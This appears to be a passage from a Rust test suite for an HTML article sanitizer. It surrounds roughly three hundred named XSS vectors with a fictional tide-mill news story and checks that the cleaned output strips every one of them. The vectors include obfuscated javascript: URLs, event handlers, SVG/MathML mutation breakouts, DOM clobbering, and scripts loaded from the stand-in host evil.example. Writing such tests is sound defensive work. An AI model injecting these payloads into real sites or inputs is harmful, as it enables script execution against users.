//! XSS vectors through the whole pipeline: each vector sits between the paragraphs of an
//! ordinary article page, and the cleaned HTML (meant for `innerHTML`) must carry nothing
//! that runs script, loads active content, or clobbers the host page's DOM, while the prose
//! around the vector survives (so the test cannot pass by emptying the output).
//!
//! The vectors are written from the published families: filter-evasion tag and attribute
//! tricks, entity- and white-space-obfuscated `javascript:`, SVG/MathML namespace confusion,
//! `srcdoc`, `formaction`, `<base>`, `<meta refresh>`, `<object>`/`<embed>`, CSS
//! `expression()`/`url(javascript:)`, DOM clobbering, comment/CDATA breaking, raw-text and
//! `<noscript>` mutation tricks, `<template>` and `<iframe src=javascript:>`.
//!
//! Every failing vector is listed by name in the assertion message.

use unboil::{clean_article, Input, Options};

const URL: &str = "https://www.harbourtimes.example.org/news/2024/05/17/tide-mill-turns-again.html";

/// Three paragraphs before the vector and three after it.
const PROSE: [&str; 6] = [
    "For the first time in sixty years the wooden wheel of the tide mill at Saltmarsh Creek turned on Saturday morning, pushed by the ebbing water that the restored sluice gates had held back overnight in the old mill pond.",
    "The mill was built in 1792 to grind wheat for the villages along the estuary and worked until a storm in 1963 smashed the gates. After that the building became a store for fishing nets and slowly fell apart.",
    "A trust formed by local residents bought the ruin for one pound in 2015. Volunteers spent seven winters cutting new oak paddles by hand, rebuilding the brick wheel pit and relearning how a miller reads the tide tables.",
    "Engineers from the county council checked the new gates twice before the first run. The pond now fills on every rising tide and can drive the wheel for about four hours, enough to grind a small batch of flour.",
    "The trust plans to sell the flour in the village shop and to open the mill to school groups in the autumn. Visitors will be able to watch the wheel from a new gallery built above the outflow channel.",
    "The restoration cost a little over four hundred thousand pounds, most of it raised from heritage grants and a long list of small donations. The names of every donor are carved into a beam above the millstones.",
];

/// Where a vector goes, and whether the page after it can be expected to survive.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// Between the third and the fourth paragraph.
    Body,
    /// In the `<head>`, before the page's own metadata ends.
    Head,
    /// Between the paragraphs, but it legitimately swallows the rest of the page
    /// (`<plaintext>`, an unclosed raw-text element): only the prose before it must survive.
    BodyEatsRest,
}

struct Vector {
    name: &'static str,
    html: &'static str,
    place: Place,
}

const fn b(name: &'static str, html: &'static str) -> Vector {
    Vector { name, html, place: Place::Body }
}

const fn h(name: &'static str, html: &'static str) -> Vector {
    Vector { name, html, place: Place::Head }
}

const fn eats(name: &'static str, html: &'static str) -> Vector {
    Vector { name, html, place: Place::BodyEatsRest }
}

const VECTORS: &[Vector] = &[
    // ---- script elements ---------------------------------------------------------------
    b("script-plain", r##"<script>alert(1)</script>"##),
    b("script-src-upper", r##"<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>"##),
    b("script-slash-attr", r##"<script/xss src="https://evil.example/x.js"></script>"##),
    b("script-double-open", r##"<<script>alert(1);//<</script>"##),
    b("script-mixed-case", r##"<ScRiPt>alert(1)</sCrIpT>"##),
    b("script-nested-strip", r##"<scr<script>ipt>alert(1)</scr</script>ipt>"##),
    b("script-escaped-comment", r##"<script><!--<script>alert(1)</script>--></script>"##),
    b("script-end-in-comment", r##"<script>/*</script><img src=x onerror=alert(1)>*/</script>"##),
    b("script-data-src", r##"<script src=data:text/javascript,alert(1)></script>"##),
    b("script-docwrite", r##"<div><script>document.write('<img src=x onerror=alert(1)>')</script></div>"##),
    b("script-after-close-p", r##"</p><script>alert(1)</script><p>"##),
    b("script-end-tag-space", "<script>alert(1)</script \t>"),
    b("script-in-noscript", r##"<noscript><script>alert(1)</script></noscript>"##),
    b("script-type-module", r##"<script type="module">import('https://evil.example/m.js')</script>"##),
    b("script-in-table", r##"<table><tr><td>cell</td><script>alert(1)</script></tr></table>"##),
    b("script-img-triple-quote", r##"<IMG """><SCRIPT>alert(1)</SCRIPT>">"##),
    b("script-in-list", r##"<ul><li>one</li><script>alert(1)</script><li>two</li></ul>"##),
    // ---- event handlers ----------------------------------------------------------------
    b("on-img-onerror", r##"<img src=x onerror=alert(1)>"##),
    b("on-img-upper-fromcharcode", r##"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"##),
    b("on-img-slashes", r##"<img/src="x"/onerror=alert(1)>"##),
    b("on-img-eval-src", r##"<img src=x:alert(alt) onerror=eval(src) alt=0>"##),
    b("on-img-mixed-case", r##"<img src=x oNeRrOr=alert(1)>"##),
    b("on-img-spaces-around-eq", r##"<img src=x onerror  =  alert(1)>"##),
    b("on-img-entity-body", r##"<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"##),
    b("on-img-no-space-quoted", r##"<img src="x"onerror="alert(1)">"##),
    b("on-img-backticks", r##"<img src=`x` onerror=alert(1)>"##),
    b("on-img-unterminated", "<img src=x onerror=alert(1)//\n"),
    b("on-body-onload", r##"<body onload=alert(1)>"##),
    b("on-body-slash-onload", r##"<body/onload=alert(1)>"##),
    b("on-body-onpageshow", r##"<body onpageshow=alert(1)>"##),
    b("on-p-onmouseover", r##"<p onmouseover="alert(1)">Hover over this sentence.</p>"##),
    b("on-div-pointerenter", r##"<div onpointerenter=alert(1)>A sentence inside a div.</div>"##),
    b("on-a-onfocus-autofocus", r##"<a onfocus=alert(1) autofocus tabindex=1 href="#x">focus</a>"##),
    b("on-input-autofocus", r##"<input onfocus=alert(1) autofocus>"##),
    b("on-details-ontoggle", r##"<details open ontoggle=alert(1)><summary>More</summary>hidden text</details>"##),
    b("on-video-source-onerror", r##"<video><source onerror="alert(1)"></video>"##),
    b("on-audio-onerror", r##"<audio src=x onerror=alert(1)></audio>"##),
    b("on-video-onloadstart", r##"<video poster=x.jpg onloadstart=alert(1) src=x.mp4></video>"##),
    b("on-marquee-onstart", r##"<marquee onstart=alert(1)>moving words</marquee>"##),
    b("on-select-autofocus", r##"<select autofocus onfocus=alert(1)><option>a</option></select>"##),
    b("on-textarea-autofocus", r##"<textarea autofocus onfocus=alert(1)>x</textarea>"##),
    b("on-keygen-autofocus", r##"<keygen autofocus onfocus=alert(1)>"##),
    b("on-custom-element", r##"<x-card onclick=alert(1)>custom element text</x-card>"##),
    b("on-h1-onclick", r##"<h1 onclick=alert(1)>A heading in the body</h1>"##),
    b("on-time-onmouseover", r##"<p><time onmouseover=alert(1) datetime="2024-05-17">17 May</time></p>"##),
    b("on-table-cells", r##"<table><tr><th onclick=alert(1)>Year</th><td onmouseover=alert(2)>1792</td></tr></table>"##),
    b("on-li-onclick", r##"<ol><li onclick=alert(1)>first step</li></ol>"##),
    b("on-span-animation", r##"<p><span onanimationstart=alert(1) style="animation-name:spin">spinning</span></p>"##),
    b("on-p-oncopy", r##"<p oncopy=alert(1) onpaste=alert(2) oncut=alert(3)>Copy this line.</p>"##),
    b("on-div-onwheel", r##"<div onwheel=alert(1) onscroll=alert(2)>Scroll over this.</div>"##),
    b("on-blockquote-onclick", r##"<blockquote onclick=alert(1) cite="https://ok.example/q">A quoted line.</blockquote>"##),
    b("on-iframe-youtube-onload", r##"<iframe src="https://www.youtube.com/embed/abc123" onload=alert(1)></iframe>"##),
    b("on-picture-source", r##"<picture><source srcset="a.webp" onerror=alert(1)><img src="a.jpg" onload=alert(2)></picture>"##),
    b("on-a-href-ok", r##"<a href="https://ok.example/" onclick="alert(1)" onauxclick=alert(2)>ok link</a>"##),
    b("on-vertical-tab-name", "<img src=x onerror\x0b=alert(1)>"),
    b("on-formfeed-separator", "<img\x0csrc=x\x0conerror=alert(1)>"),
    b("on-frameset", r##"<frameset onload=alert(1)><frame src="x.html"></frameset>"##),
    b("on-math-element", r##"<math onclick=alert(1)><mi onmouseover=alert(2)>x</mi></math>"##),
    // ---- javascript: and friends in URL attributes ------------------------------------
    b("url-js-plain", r##"<a href="javascript:alert(1)">x1</a>"##),
    b("url-js-mixed-case", r##"<a href="JaVaScRiPt:alert(1)">x2</a>"##),
    b("url-js-leading-space", r##"<a href="   javascript:alert(1)">x3</a>"##),
    b("url-js-decimal-entities", r##"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x4</a>"##),
    b("url-js-long-decimal-no-semicolon", r##"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x5</a>"##),
    b("url-js-hex-no-semicolon", r##"<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x6</a>"##),
    b("url-js-first-letter-hex", r##"<a href="&#x6A;avascript&#x3A;alert(1)">x7</a>"##),
    b("url-js-first-letter-dec", r##"<a href="&#106;avascript:alert(1)">x8</a>"##),
    b("url-js-entity-tab", r##"<a href="jav&#x09;ascript:alert(1)">x9</a>"##),
    b("url-js-entity-newline", r##"<a href="jav&#x0A;ascript:alert(1)">x10</a>"##),
    b("url-js-entity-cr", r##"<a href="jav&#x0D;ascript:alert(1)">x11</a>"##),
    b("url-js-literal-tab", "<a href=\"java\tscript:alert(1)\">x12</a>"),
    b("url-js-literal-newline", "<a href=\"java\nscript:alert(1)\">x13</a>"),
    b("url-js-control-prefix-entity", r##"<a href="&#14;  javascript:alert(1)">x14</a>"##),
    b("url-js-control-prefix-literal", "<a href=\"\x01\x02javascript:alert(1)\">x15</a>"),
    b("url-js-colon-named", r##"<a href="javascript&colon;alert(1)">x16</a>"##),
    b("url-js-tab-named", r##"<a href="java&Tab;script:alert(1)">x17</a>"##),
    b("url-js-newline-named", r##"<a href="java&NewLine;script:alert(1)">x18</a>"##),
    b("url-js-colon-dec-no-semicolon", r##"<a href="javascript&#58alert(1)">x19</a>"##),
    b("url-js-colon-hex", r##"<a href="javascript&#x3a;alert(1)">x20</a>"##),
    b("url-js-space-entity-prefix", r##"<a href="&#x20;javascript:alert(1)">x21</a>"##),
    b("url-js-slashes-newline", r##"<a href="javascript://%0Aalert(1)">x22</a>"##),
    b("url-js-fake-host", r##"<a href="javascript://ok.example.org/%0Aalert(1)">x23</a>"##),
    b("url-js-lpar-rpar", r##"<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x24</a>"##),
    b("url-js-nul-entity", r##"<a href="java&#0;script:alert(1)">x25</a>"##),
    b("url-js-middle-letter-entity", r##"<a href="javas&#99;ript:alert(1)">x26</a>"##),
    b("url-js-no-semicolon-first", r##"<a href="&#106avascript:alert(1)">x27</a>"##),
    b("url-js-zero-padded-hex", r##"<a href="jav&#x000000061;script:alert(1)">x28</a>"##),
    b("url-js-zero-padded-colon", r##"<a href="javascript&#x0000003A;alert(1)">x29</a>"##),
    b("url-js-unquoted", r##"<a href=javascript:alert(1)>x30</a>"##),
    b("url-js-single-quoted", r##"<a href='javascript:alert(1)'>x31</a>"##),
    b("url-js-nbsp-prefix", r##"<a href="&nbsp;javascript:alert(1)">x32</a>"##),
    b("url-js-wrapping-img", r##"<a href="javascript:alert(1)"><img src="photo.jpg" alt="photo"></a>"##),
    b("url-vbscript", r##"<a href="vbscript:msgbox(1)">x33</a>"##),
    b("url-vbscript-upper-entity", r##"<a href="VBScript&#58;msgbox(1)">x34</a>"##),
    b("url-livescript", r##"<a href="livescript:alert(1)">x35</a>"##),
    b("url-data-text-html", r##"<a href="data:text/html,<script>alert(1)</script>">x36</a>"##),
    b("url-data-text-html-base64", r##"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x37</a>"##),
    b("url-data-upper-space", r##"<a href=" DATA:text/html,x">x38</a>"##),
    b("url-data-xhtml", r##"<a href="data:application/xhtml+xml,x">x39</a>"##),
    b("url-data-svg-link", r##"<a href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">x40</a>"##),
    b("url-img-js", r##"<img src="javascript:alert(1)" alt="a">"##),
    b("url-img-js-entity", r##"<img src="&#x6A;avascript:alert(1)" alt="b">"##),
    b("url-img-vbscript", r##"<img src="vbscript:msgbox(1)" alt="c">"##),
    b("url-img-data-svg", r##"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="d">"##),
    b("url-img-data-svg-plain", r##"<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="e">"##),
    b("url-img-data-text", r##"<img src="data:text/html;base64,PHNjcmlwdD4=" alt="f">"##),
    b("url-img-dynsrc-lowsrc", r##"<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(2)" src="ok.jpg">"##),
    b("url-srcset-js", r##"<img srcset="javascript:alert(1) 1x" alt="g">"##),
    b("url-srcset-js-second", r##"<img srcset="ok.png 1x, javascript:alert(1) 2x" alt="h">"##),
    b("url-srcset-svg", r##"<img src="ok.png" srcset="data:image/svg+xml;base64,PHN2Zy8+ 2x" alt="i">"##),
    b("url-lazy-data-src-js", r##"<img data-src="javascript:alert(1)" alt="j">"##),
    b("url-lazy-placeholder-js", r##"<img src="blank.gif" data-src="&#x6A;avascript:alert(1)" alt="k">"##),
    b("url-lazy-data-srcset-js", r##"<img data-srcset="javascript:alert(1) 1x" alt="l">"##),
    b("url-picture-source-js", r##"<picture><source srcset="javascript:alert(1)"><img src="ok.jpg" alt="m"></picture>"##),
    b("url-video-poster-js", r##"<video poster="javascript:alert(1)" src="clip.mp4"></video>"##),
    b("url-video-src-js", r##"<video src="javascript:alert(1)"></video>"##),
    b("url-video-data-poster-js", r##"<video data-poster="javascript:alert(1)" src="clip.mp4"></video>"##),
    b("url-video-source-js", r##"<video controls><source src="javascript:alert(1)" type="video/mp4"></video>"##),
    b("url-audio-src-js", r##"<audio src="jav&#x09;ascript:alert(1)"></audio>"##),
    b("url-track-js", r##"<video src="clip.mp4"><track src="javascript:alert(1)" kind="captions"></video>"##),
    b("url-blockquote-cite-js", r##"<blockquote cite="javascript:alert(1)"><p>A quote from the miller.</p></blockquote>"##),
    b("url-q-cite-js", r##"<p><q cite="&#x6A;avascript:alert(1)">a short quote</q></p>"##),
    b("url-del-ins-cite-js", r##"<p><del cite="javascript:alert(1)">old</del><ins cite="vbscript:x">new</ins></p>"##),
    b("url-xlink-href-on-a", r##"<a href="https://ok.example/" xlink:href="javascript:alert(1)">x41</a>"##),
    b("url-area-href", r##"<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:alert(1)"></map>"##),
    b("url-table-background", r##"<table background="javascript:alert(1)"><tr><td background="javascript:alert(2)">cell</td></tr></table>"##),
    b("url-percent-scheme", r##"<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x42</a>"##),
    b("url-fullwidth-scheme", r##"<a href="ｊａｖａｓｃｒｉｐｔ：alert(1)">x43</a>"##),
    b("url-feed-wrapper", r##"<a href="feed:javascript:alert(1)">x44</a>"##),
    b("url-http-colon-js", r##"<a href="http:javascript:alert(1)">x45</a>"##),
    // ---- SVG and MathML namespace confusion -------------------------------------------
    b("svg-script", r##"<svg><script>alert(1)</script></svg>"##),
    b("svg-script-href", r##"<svg><script href="data:,alert(1)"/></svg>"##),
    b("svg-onload", r##"<svg onload=alert(1)>"##),
    b("svg-slash-onload", r##"<svg/onload=alert(1)></svg>"##),
    b("svg-a-xlink", r##"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>"##),
    b("svg-animate-onbegin", r##"<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"##),
    b("svg-set-href", r##"<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">set</text></a></svg>"##),
    b("svg-animate-values", r##"<svg><a><animate attributeName=href values=javascript:alert(1) /><text y="20">go</text></a></svg>"##),
    b("svg-foreignobject-iframe", r##"<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>"##),
    b("svg-style-img", r##"<svg><style><img src=x onerror=alert(1)></style></svg>"##),
    b("svg-cdata-breakout", r##"<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>"##),
    b("svg-desc-img", r##"<svg><desc><img src=x onerror=alert(1)></desc></svg>"##),
    b("svg-image-href", r##"<svg><image href="javascript:alert(1)"/></svg>"##),
    b("svg-use-data", r##"<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>"##),
    b("svg-p-style-breakout", r##"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"##),
    b("svg-foreignobject-style", r##"<svg><foreignobject><p><style><p title="</style><img src=x onerror=alert(1)>"></style></p></foreignobject></svg>"##),
    b("svg-in-img-data", r##"<p><img src="data:image/svg+xml;utf8,&lt;svg onload=alert(1)&gt;" alt="n"></p>"##),
    b("math-mglyph-style", r##"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"##),
    b("math-mglyph-svg-style", r##"<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>"></style></mtext></svg></mglyph></table></mtext></math>"##),
    b("math-h1-a-h6-mglyph", r##"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>"##),
    b("math-option-fake", r##"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>"></style></mtext></svg></mglyph></option></mtext></math>"##),
    b("math-style-img", r##"<math><style><img src=x onerror=alert(1)></style></math>"##),
    b("math-href", r##"<math href="javascript:alert(1)"><mi>CLICK</mi></math>"##),
    b("math-maction-xlink", r##"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>CLICK</mi></maction></math>"##),
    b("math-annotation-xml-script", r##"<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>"##),
    b("math-annotation-xml-img", r##"<math><semantics><mi>y</mi><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)></annotation-xml></semantics></math>"##),
    // Browsers too leave the <style> open here, so the rest of the page is its text.
    eats("math-form-nesting", r##"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"##),
    b("math-form-nesting-closed", r##"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>"##),
    b("math-mi-xlink-data", r##"<math><mi xlink:href="data:x,<script>alert(1)</script>">m</mi></math>"##),
    // ---- srcdoc, frames, formaction ----------------------------------------------------
    b("iframe-srcdoc", r##"<iframe srcdoc="<script>alert(1)</script>"></iframe>"##),
    b("iframe-srcdoc-escaped", r##"<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>"##),
    b("iframe-youtube-srcdoc", r##"<iframe src="https://www.youtube.com/embed/abc123" srcdoc="<script>alert(1)</script>"></iframe>"##),
    b("iframe-js", r##"<iframe src=javascript:alert(1)></iframe>"##),
    b("iframe-js-tab", r##"<iframe src="jav&#x09;ascript:alert(1)"></iframe>"##),
    b("iframe-data-html", r##"<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>"##),
    b("iframe-data-svg", r##"<iframe/src="data:text/html,<svg onload=alert(1)>"></iframe>"##),
    b("iframe-unknown-host", r##"<iframe src="https://evil.example/frame.html"></iframe>"##),
    b("iframe-lookalike-host", r##"<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>"##),
    b("iframe-userinfo-host", r##"<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>"##),
    b("iframe-host-in-query", r##"<iframe src="https://evil.example/?u=www.youtube.com/embed/x"></iframe>"##),
    b("iframe-host-backslash", r##"<iframe src="https://evil.example\www.youtube.com/embed/x"></iframe>"##),
    b("iframe-lazy-js", r##"<iframe data-src="javascript:alert(1)"></iframe>"##),
    b("iframe-youtube-own-sandbox", r##"<iframe src="https://www.youtube.com/embed/abc123" sandbox="allow-scripts allow-top-navigation allow-same-origin allow-modals"></iframe>"##),
    b("iframe-content-img", r##"<iframe src="https://player.vimeo.com/video/42"><img src=x onerror=alert(1)></iframe>"##),
    b("iframe-name-clobber", r##"<iframe name="parent" src="https://www.youtube.com/embed/abc123"></iframe>"##),
    b("frame-js", r##"<frame src="javascript:alert(1)">"##),
    b("form-action-js", r##"<form action="javascript:alert(1)"><input type="submit" value="Send"></form>"##),
    b("form-button-formaction", r##"<form><button formaction="javascript:alert(1)">Go</button></form>"##),
    b("button-formaction-outside", r##"<button form="f1" formaction="javascript:alert(1)">Press</button>"##),
    b("input-image-formaction", r##"<input type="image" formaction="javascript:alert(1)" src="x.png">"##),
    b("isindex-action", r##"<isindex action="javascript:alert(1)" type="image" src="x" onerror="alert(2)">"##),
    // ---- base, meta, link, object, embed ------------------------------------------------
    b("base-js-body", r##"<base href="javascript:alert(1)//">"##),
    b("base-target-body", r##"<base target="_top" href="https://evil.example/">"##),
    b("meta-refresh-js-body", r##"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"##),
    b("meta-refresh-data-body", r##"<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"##),
    b("meta-set-cookie", r##"<meta http-equiv="Set-Cookie" content="session=stolen">"##),
    b("meta-charset-utf7", r##"<meta charset="x-imap4-modified-utf7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-"##),
    b("link-stylesheet-js", r##"<link rel="stylesheet" href="javascript:alert(1)">"##),
    b("link-import", r##"<link rel="import" href="https://evil.example/x.html">"##),
    b("object-data-js", r##"<object data="javascript:alert(1)">object fallback</object>"##),
    b("object-data-html", r##"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>"##),
    b("object-scriptlet", r##"<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>"##),
    b("object-param", r##"<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name="url" value="javascript:alert(1)"></object>"##),
    b("embed-svg", r##"<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">"##),
    b("embed-js", r##"<embed src=javascript:alert(1)>"##),
    b("embed-flash", r##"<embed src="https://evil.example/x.swf" allowscriptaccess="always">"##),
    b("applet-codebase", r##"<applet code="X" codebase="javascript:alert(1)">applet</applet>"##),
    // ---- CSS -----------------------------------------------------------------------------
    b("css-expression", r##"<div style="width: expression(alert(1));">Styled sentence.</div>"##),
    b("css-url-js", r##"<p style="background:url(javascript:alert(1))">Background sentence.</p>"##),
    b("css-behavior", r##"<p style="behavior: url(xss.htc);">Behaviour sentence.</p>"##),
    b("css-moz-binding", r##"<p style="-moz-binding:url(https://evil.example/xss.xml#xss)">Binding sentence.</p>"##),
    b("css-escaped-url", r##"<div style="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028\0031\0029'\0029">Escaped css.</div>"##),
    b("css-comment-split", r##"<img src="ok.jpg" style="xss:expr/*XSS*/ession(alert(1))">"##),
    b("css-entity-url", r##"<p style=color:red;background:url(&#106;avascript:alert(1))>Entity css.</p>"##),
    b("css-overlay", r##"<p><span style="position:fixed;top:0;left:0;width:100%;height:100%">covering link</span></p>"##),
    b("css-style-import", r##"<style>@import 'javascript:alert(1)';</style>"##),
    b("css-style-url", r##"<style>body{background:url("javascript:alert(1)")}</style>"##),
    b("css-style-list-image", r##"<style>li {list-style-image: url("javascript:alert(1)");}</style>"##),
    b("css-style-expression", r##"<style>*{x:expression(alert(1))}</style>"##),
    b("css-style-type-js", r##"<STYLE TYPE="text/javascript">alert(1);</STYLE>"##),
    b("css-style-img", r##"<style><img src=x onerror=alert(1)></style>"##),
    b("css-style-end-in-string", r##"<style>p{content:"</style><img src=x onerror=alert(1)>"}</style>"##),
    b("css-xss-element", r##"<xss style="xss:expression(alert(1))">custom styled</xss>"##),
    // ---- DOM clobbering ------------------------------------------------------------------
    b("clobber-img-name-cookie", r##"<img name="cookie" src="pic.jpg" alt="cookie">"##),
    b("clobber-form-name-location", r##"<form name="location"><input name="href"></form>"##),
    b("clobber-a-id-location", r##"<a id="location" href="https://evil.example/">loc</a>"##),
    b("clobber-img-id-body", r##"<img id="body" src="pic.jpg" alt="body">"##),
    b("clobber-a-id-forms", r##"<a id="forms" href="#forms">forms</a>"##),
    b("clobber-a-collection", r##"<a id="config">one</a><a id="config" name="transport" href="https://evil.example/">two</a>"##),
    b("clobber-div-getelementbyid", r##"<div id="getElementById">Clobbering a document method.</div>"##),
    b("clobber-p-id-cookie", r##"<p id="cookie">A paragraph named after the cookie jar.</p>"##),
    b("clobber-embed-name", r##"<embed name="defaultView" src="x.swf">"##),
    b("clobber-object-name", r##"<object name="cookie" data="x.swf"></object>"##),
    b("clobber-id-proto", r##"<p id="__proto__">Prototype id.</p>"##),
    b("clobber-id-quote-break", r##"<p id="location&quot; onclick=&quot;alert(1)">Quote in id.</p>"##),
    b("clobber-id-space", r##"<h2 id=" attributes ">Spaced id</h2>"##),
    b("clobber-name-on-heading", r##"<h3 name="body">Named heading</h3>"##),
    b("clobber-a-name-anchor", r##"<p><a name="documentElement">anchor</a></p>"##),
    // ---- comments, CDATA, processing instructions, broken markup -----------------------
    b("comment-img", r##"<!--<img src=x onerror=alert(1)>-->"##),
    b("comment-bang-close", r##"<!-- --!><img src=x onerror=alert(1)> -->"##),
    b("comment-abrupt-close", r##"<!--><img src=x onerror=alert(1)>-->"##),
    b("comment-abrupt-close-dash", r##"<!---><img src=x onerror=alert(1)>-->"##),
    b("comment-double-dash", r##"<!-- a -- b --><script>alert(1)</script>"##),
    b("comment-conditional", r##"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"##),
    b("comment-downlevel-revealed", r##"<![if !IE]><script>alert(1)</script><![endif]>"##),
    b("comment-in-attr", r##"<p title="<!--">text</p><img src=x onerror=alert(1) title="-->">"##),
    b("pi-xml", r##"<?xml version="1.0"?><img src=x onerror=alert(1)>"##),
    b("doctype-in-body", r##"<!DOCTYPE html><img src=x onerror=alert(1)>"##),
    b("bogus-comment", r##"<!a><img src=x onerror=alert(1)>"##),
    b("cdata-script", r##"<![CDATA[<script>alert(1)</script>]]>"##),
    b("cdata-img", r##"<![CDATA[><img src=x onerror=alert(1)>]]>"##),
    b("end-tag-with-attrs", r##"<p>text</p onclick=alert(1)></a onmouseover=alert(2)>"##),
    b("attr-no-space", r##"<a href="https://ok.example/" title="a"onclick="alert(1)">t</a>"##),
    b("attr-triple-quote", r##"<img src="x" alt='''onerror=alert(1)'>"##),
    b("attr-value-has-tag", r##"<img src="x" alt="<img src=y onerror=alert(1)>">"##),
    b("attr-title-closes-p", r##"<p title="</p><script>alert(1)</script>">t</p>"##),
    b("attr-quote-entity", r##"<a href="https://ok.example/" title="&quot;><script>alert(1)</script>">t</a>"##),
    b("attr-unclosed-quote", r##"<img src="x onerror=alert(1)> <p>quoted</p>" alt="z">"##),
    b("attr-name-is-tag", r##"<div id="x" <img src=x onerror=alert(1)>text</div>"##),
    b("double-angle", r##"<<img src=x onerror=alert(1)>>"##),
    b("tag-slash-attr", r##"<img src="x"/onerror="alert(1)"/>"##),
    b("tag-unicode-name", r##"<ſcript>alert(1)</ſcript><scrİpt>alert(2)</scrİpt>"##),
    b("tag-null-in-name", "<scr\0ipt>alert(1)</scr\0ipt>"),
    b("tag-utf7-text", r##"<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>"##),
    b("entity-lt-script", r##"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"##),
    b("double-encoded", r##"<p>&amp;lt;script&amp;gt;alert(1)</p>"##),
    // ---- raw text, noscript mutation, template ----------------------------------------
    b("noscript-title-breakout", r##"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"##),
    b("noscript-style-breakout", r##"<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>"##),
    b("noscript-img-onerror", r##"<noscript><img src=x onerror=alert(1)></noscript>"##),
    b("noscript-img-js", r##"<noscript><img src="javascript:alert(1)"></noscript>"##),
    b("noscript-img-js-entity", r##"<noscript><img src=&#x6A;avascript:alert(1)></noscript>"##),
    b("noscript-img-srcset-js", r##"<noscript><img src="x.jpg" srcset="javascript:alert(1) 1x, data:image/svg+xml;base64,PHN2Zy8+ 2x"></noscript>"##),
    b("noscript-img-data-svg", r##"<noscript><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></noscript>"##),
    b("noscript-iframe", r##"<noscript><iframe src="javascript:alert(1)"></iframe></noscript>"##),
    b("noscript-a-js", r##"<noscript><a href="javascript:alert(1)">noscript link</a></noscript>"##),
    b("noscript-img-quote-trick", r##"<noscript><img alt="x" src="</noscript><script>alert(1)</script>"></noscript>"##),
    b("placeholder-then-noscript-js", r##"<img src="blank.gif" alt="lazy"><noscript><img src="vbscript:msgbox(1)" onerror="alert(1)"></noscript>"##),
    b("template-script", r##"<template><script>alert(1)</script></template>"##),
    b("template-img", r##"<template><img src=x onerror=alert(1)></template>"##),
    b("template-shadowroot", r##"<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>"##),
    b("xmp-img", r##"<xmp><img src=x onerror=alert(1)></xmp>"##),
    b("textarea-img", r##"<textarea><img src=x onerror=alert(1)></textarea>"##),
    b("title-img", r##"<title><img src=x onerror=alert(1)></title>"##),
    b("noembed-img", r##"<noembed><img src=x onerror=alert(1)></noembed>"##),
    b("noframes-img", r##"<noframes><img src=x onerror=alert(1)></noframes>"##),
    b("iframe-raw-img", r##"<iframe><img src=x onerror=alert(1)></iframe>"##),
    b("listing-img", r##"<listing><img src=x onerror=alert(1)></listing>"##),
    b("select-img", r##"<select><img src=x onerror=alert(1)></select>"##),
    eats("option-style", r##"<select><option><style></option></select><img src=x onerror=alert(1)></style>"##),
    b("table-foster-img", r##"<table><img src=x onerror=alert(1)><tr><td>fostered</td></tr></table>"##),
